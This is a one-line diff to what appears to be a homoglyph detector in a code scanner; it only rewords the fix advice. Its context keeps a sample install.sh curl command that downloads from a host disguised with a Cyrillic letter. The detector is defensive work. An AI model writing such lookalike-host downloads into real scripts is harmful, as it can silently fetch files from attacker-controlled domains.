@@ -12,7 +12,7 @@ export const homoglyphs: Detector = {
     'that is read. Words count that look wholly Latin and are partly Cyrillic, Greek, Armenian or fullwidth, and host ' +
     'names that are wholly Cyrillic under a Latin ending. Units and formulas such as µm or Δx, and endings that ' +
     'Russian or Japanese text puts to Latin words, are left out, and so are lines that explain the trick. Type the ' +
-    'word anew on a Latin keyboard.',
+    'word again on a Latin keyboard.',
   examples: {
     bad: { path: 'install.sh', text: 'curl -O https://p\u0430ckages.example.org/setup.tar\n' },
     good: {
